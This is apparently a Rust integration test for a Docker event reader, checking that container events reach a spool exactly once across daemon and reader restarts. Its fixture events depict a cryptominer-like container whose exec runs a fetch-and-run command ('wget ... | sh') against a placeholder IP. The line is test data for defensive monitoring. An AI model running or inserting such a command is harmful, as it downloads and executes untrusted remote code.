//! The Docker events reader against a fake Engine API on a unix socket: events
//! streamed with chunked encoding reach the spool once each, across a daemon restart
//! (the socket gone for a while) and a restart of the reader itself, with `since`
//! taken from the cursor less a second and the replayed overlap skipped.

use pullwatch_serve::docker::{self, Cursor, DockerOptions, StopFlags};
use pullwatch_serve::metrics::Metrics;
use pullwatch_serve::spool::Spool;
use std::io::{Read, Write};
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const C: &str = "c0ffee00d15ea5e5b0a710ad5eed1e55ba5eba11c0de5eed00ddba11fee1dead";

/// A recorded stream, in the API's shape: pull, create, start, then execs of an image
/// from an untrusted registry. `(timeNano, line)`.
fn recorded() -> Vec<(i64, String)> {
    let img = "ghcr.io/cr0wbar/xmr-proxy:2.1";
    let container = |action: &str, t: i64, extra: &str| {
        let status = action.split(':').next().unwrap_or(action);
        format!(
            r#"{{"status":"{status}","id":"{C}","from":"{img}","Type":"container","Action":"{action}","Actor":{{"ID":"{C}","Attributes":{{"image":"{img}","name":"metrics-sidecar"{extra}}}}},"scope":"local","time":{},"timeNano":{t}}}"#,
            t / 1_000_000_000
        )
    };
    let pull_t = 1_795_166_160_000_000_000;
    let pull = format!(
        r#"{{"status":"pull","id":"{img}","Type":"image","Action":"pull","Actor":{{"ID":"{img}","Attributes":{{"name":"ghcr.io/cr0wbar/xmr-proxy"}}}},"scope":"local","time":{},"timeNano":{pull_t}}}"#,
        pull_t / 1_000_000_000
    );
    vec![
        (pull_t, pull),
        (
            1_795_166_163_000_000_000,
            container("create", 1_795_166_163_000_000_000, ""),
        ),
        (
            1_795_166_163_512_000_000,
            container("start", 1_795_166_163_512_000_000, ""),
        ),
        (
            1_795_166_190_000_000_000,
            container(
                "exec_start: sh -c wget -qO- http://203.0.113.50/i.sh | sh",
                1_795_166_190_000_000_000,
                r#","execID":"e2""#,
            ),
        ),
        (
            1_795_166_194_900_000_000,
            container(
                "exec_create: /bin/sh -c 'cat /proc/cpuinfo'",
                1_795_166_194_900_000_000,
                r#","execID":"e3""#,
            ),
        ),
        (
            1_795_166_195_000_000_000,
            container(
                "exec_start: /bin/sh -c 'cat /proc/cpuinfo'",
                1_795_166_195_000_000_000,
                r#","execID":"e3""#,
            ),
        ),
    ]
}

/// What the fake daemon does on one connection.
struct Conn {
    /// Events it logged while no one was connected, then streams after the replay.
    new_events: Vec<(i64, String)>,
    /// After streaming: end the stream (the daemon restarting) or keep it open.
    close: bool,
    /// Before accepting this connection, the daemon is down this long (socket gone).
    down_before: Duration,
}

/// A fake Engine API: keeps an event log, answers `GET /events?since=S` by replaying
/// the logged events at or after second S (as dockerd does) and then the connection's
/// new ones, each split over two HTTP chunks. Records each request line.
fn daemon(
    path: PathBuf,
    mut log: Vec<(i64, String)>,
    conns: Vec<Conn>,
    stop: Arc<AtomicBool>,
) -> (Arc<Mutex<Vec<String>>>, std::thread::JoinHandle<()>) {
    let requests = Arc::new(Mutex::new(Vec::new()));
    let seen = requests.clone();
    let mut listener = Some(UnixListener::bind(&path).unwrap());
    let h = std::thread::spawn(move || {
        for conn in conns {
            if !conn.down_before.is_zero() {
                drop(listener.take());
                let _ = std::fs::remove_file(&path);
                std::thread::sleep(conn.down_before);
                listener = Some(UnixListener::bind(&path).unwrap());
            }
            let Some(l) = &listener else { return };
            let (mut s, _) = l.accept().unwrap();
            let line = read_request(&mut s);
            seen.lock().unwrap().push(line.clone());
            let since: i64 = line
                .split("since=")
                .nth(1)
                .and_then(|r| r.split([' ', '&']).next())
                .and_then(|n| n.parse().ok())
                .unwrap_or(0);
            s.write_all(b"HTTP/1.1 200 OK\r\nApi-Version: 1.43\r\nContent-Type: application/json\r\nServer: Docker/24.0.7 (linux)\r\nTransfer-Encoding: chunked\r\n\r\n").unwrap();
            let replay: Vec<String> = log
                .iter()
                .filter(|(t, _)| t / 1_000_000_000 >= since)
                .map(|(_, l)| l.clone())
                .collect();
            for ev in replay.iter().chain(conn.new_events.iter().map(|(_, l)| l)) {
                let bytes = format!("{ev}\n").into_bytes();
                let (a, b) = bytes.split_at(bytes.len() / 2);
                for part in [a, b] {
                    write!(s, "{:x}\r\n", part.len()).unwrap();
                    s.write_all(part).unwrap();
                    s.write_all(b"\r\n").unwrap();
                }
                s.flush().unwrap();
            }
            log.extend(conn.new_events);
            if conn.close {
                let _ = s.write_all(b"0\r\n\r\n");
                drop(s);
            } else {
                while !stop.load(Ordering::Relaxed) {
                    std::thread::sleep(Duration::from_millis(20));
                }
                return;
            }
        }
    });
    (requests, h)
}

fn read_request(s: &mut UnixStream) -> String {
    let mut buf = Vec::new();
    let mut b = [0u8; 1];
    while !buf.ends_with(b"\r\n\r\n") {
        if s.read(&mut b).unwrap() == 0 {
            break;
        }
        buf.push(b[0]);
    }
    let text = String::from_utf8_lossy(&buf).into_owned();
    assert!(
        text.contains("\r\nHost: ") || text.contains("\r\nhost: "),
        "{text}"
    );
    text.lines().next().unwrap_or("").to_string()
}

fn spool_lines(dir: &Path) -> Vec<String> {
    let mut files: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    files
        .iter()
        .flat_map(|f| {
            std::fs::read_to_string(f)
                .unwrap()
                .lines()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

fn wait_for(what: &str, deadline: Duration, mut ok: impl FnMut() -> bool) {
    let end = Instant::now() + deadline;
    while !ok() {
        assert!(Instant::now() < end, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(25));
    }
}

#[test]
fn docker_events_reach_the_spool_once_across_daemon_and_reader_restarts() {
    let dir = tempfile::tempdir().unwrap();
    let sock = dir.path().join("docker.sock");
    let state = dir.path().join("state");
    std::fs::create_dir_all(&state).unwrap();
    let spool = Arc::new(Spool::open(&state.join("spool"), 1 << 20).unwrap());
    let metrics = Arc::new(Metrics::new());
    let opts = DockerOptions {
        socket: sock.clone(),
        state_dir: state.clone(),
        api_version: None,
        first_lookback: Duration::from_secs(600),
        max_line_bytes: 1 << 20,
    };
    let events = recorded();
    // Logged while the daemon was down: one at exactly the cursor's nanosecond (a
    // different action: new, not a duplicate), one after it.
    let stamp = 1_795_166_195_000_000_000;
    let mut later = vec![
        (
            stamp,
            format!(
                r#"{{"status":"die","id":"{C}","Type":"container","Action":"die","Actor":{{"ID":"{C}","Attributes":{{"exitCode":"137","image":"ghcr.io/cr0wbar/xmr-proxy:2.1","name":"metrics-sidecar"}}}},"scope":"local","time":1795166195,"timeNano":{stamp}}}"#
            ),
        ),
        (
            1_795_166_201_000_000_000,
            format!(
                r#"{{"status":"destroy","id":"{C}","Type":"container","Action":"destroy","Actor":{{"ID":"{C}","Attributes":{{"image":"ghcr.io/cr0wbar/xmr-proxy:2.1","name":"metrics-sidecar"}}}},"scope":"local","time":1795166201,"timeNano":1795166201000000000}}"#
            ),
        ),
    ];
    let daemon_stop = Arc::new(AtomicBool::new(false));
    let (requests, d) = daemon(
        sock.clone(),
        Vec::new(),
        vec![
            Conn {
                new_events: events.clone(),
                close: true,
                down_before: Duration::ZERO,
            },
            Conn {
                new_events: later.clone(),
                close: false,
                down_before: Duration::from_millis(600),
            },
        ],
        daemon_stop.clone(),
    );
    let stop = Arc::new(AtomicBool::new(false));
    let t0 = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    let reader = docker::spawn(
        opts.clone(),
        spool.clone(),
        metrics.clone(),
        StopFlags(vec![stop.clone()]),
    )
    .unwrap();

    let mut all: Vec<(i64, String)> = events.clone();
    all.append(&mut later);
    let expected: Vec<String> = all.iter().map(|(_, l)| l.clone()).collect();
    wait_for("every event in the spool", Duration::from_secs(20), || {
        spool_lines(&state.join("spool")).len() >= expected.len()
    });
    // Give a wrongly appended duplicate the chance to show.
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(spool_lines(&state.join("spool")), expected);

    let reqs = requests.lock().unwrap().clone();
    assert_eq!(reqs.len(), 2, "{reqs:?}");
    // First start, no cursor: the lookback from now.
    let first: i64 = reqs[0]
        .strip_prefix("GET /events?since=")
        .and_then(|r| r.strip_suffix(" HTTP/1.1"))
        .unwrap()
        .parse()
        .unwrap();
    assert!((first - (t0 - 600)).abs() <= 5, "{}", reqs[0]);
    // After the daemon came back: a second before the last event appended.
    assert_eq!(reqs[1], "GET /events?since=1795166194 HTTP/1.1");
    // The replay held exec_create (…194.9s) and exec_start (…195.0s), both appended
    // before the restart.
    assert_eq!(metrics.docker_duplicates.get(), 2);
    assert_eq!(metrics.docker_events.get(), expected.len() as u64);
    assert!(metrics.docker_reconnects.get() >= 1);
    assert_eq!(metrics.docker_connected.get(), 1);
    let cursor = Cursor::load(&state).unwrap();
    assert_eq!(cursor.time_nano, 1_795_166_201_000_000_000);

    // The reader stops promptly with the connection still open.
    let t = Instant::now();
    stop.store(true, Ordering::Relaxed);
    reader.join().unwrap();
    assert!(t.elapsed() < Duration::from_secs(2), "{:?}", t.elapsed());
    daemon_stop.store(true, Ordering::Relaxed);
    d.join().unwrap();
    let _ = std::fs::remove_file(&sock);

    // The reader restarted (the service restarting): it resumes from the persisted
    // cursor and the daemon's replay adds nothing.
    let daemon_stop = Arc::new(AtomicBool::new(false));
    let (requests, d) = daemon(
        sock.clone(),
        all.clone(),
        vec![Conn {
            new_events: Vec::new(),
            close: false,
            down_before: Duration::ZERO,
        }],
        daemon_stop.clone(),
    );
    let metrics = Arc::new(Metrics::new());
    let stop = Arc::new(AtomicBool::new(false));
    let reader =
        docker::spawn(opts, spool, metrics.clone(), StopFlags(vec![stop.clone()])).unwrap();
    wait_for("the replay to be judged", Duration::from_secs(20), || {
        metrics.docker_duplicates.get() == 1
    });
    assert_eq!(
        requests.lock().unwrap().clone(),
        vec!["GET /events?since=1795166200 HTTP/1.1".to_string()]
    );
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(metrics.docker_events.get(), 0);
    assert_eq!(spool_lines(&state.join("spool")), expected);
    stop.store(true, Ordering::Relaxed);
    reader.join().unwrap();
    daemon_stop.store(true, Ordering::Relaxed);
    d.join().unwrap();
}

#[test]
fn an_error_answer_is_retried_and_a_versioned_path_asked_for() {
    let dir = tempfile::tempdir().unwrap();
    let sock = dir.path().join("docker.sock");
    let listener = UnixListener::bind(&sock).unwrap();
    let spool = Arc::new(Spool::open(&dir.path().join("spool"), 1 << 20).unwrap());
    let metrics = Arc::new(Metrics::new());
    let stop = Arc::new(AtomicBool::new(false));
    let reader = docker::spawn(
        DockerOptions {
            socket: sock,
            state_dir: dir.path().to_path_buf(),
            api_version: Some("1.43".into()),
            first_lookback: Duration::ZERO,
            max_line_bytes: 1 << 20,
        },
        spool,
        metrics.clone(),
        StopFlags(vec![stop.clone()]),
    )
    .unwrap();
    let mut lines = Vec::new();
    for _ in 0..2 {
        let (mut s, _) = listener.accept().unwrap();
        lines.push(read_request(&mut s));
        let body = r#"{"message":"client version 1.43 is too new. Maximum supported API version is 1.41"}"#;
        write!(
            s,
            "HTTP/1.1 400 Bad Request\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .unwrap();
    }
    assert!(lines
        .iter()
        .all(|l| l.starts_with("GET /v1.43/events?since=")));
    wait_for("a reconnect to be counted", Duration::from_secs(5), || {
        metrics.docker_reconnects.get() >= 1
    });
    assert_eq!(metrics.docker_events.get(), 0);
    stop.store(true, Ordering::Relaxed);
    reader.join().unwrap();
}
